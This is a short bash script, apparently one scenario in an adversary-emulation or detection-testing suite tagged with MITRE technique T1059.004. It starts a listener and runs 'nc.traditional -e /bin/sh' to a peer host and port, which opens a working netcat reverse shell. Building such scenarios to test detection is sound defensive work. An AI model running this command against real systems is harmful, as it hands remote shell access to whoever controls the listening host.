#!/usr/bin/env bash
# Reverse shell: traditional netcat `nc -e /bin/sh PEER PORT` (nc execs the shell on the socket).
. "$(dirname "$0")/../lib.sh"
scn_begin revshell-nc-e T1059.004
scn_require nc.traditional
scn_attacker_listen 4445
nc.traditional -e /bin/sh "$SCN_PEER" "$SCN_PORT" 2>/dev/null &
scn_track $!
scn_shell_finish
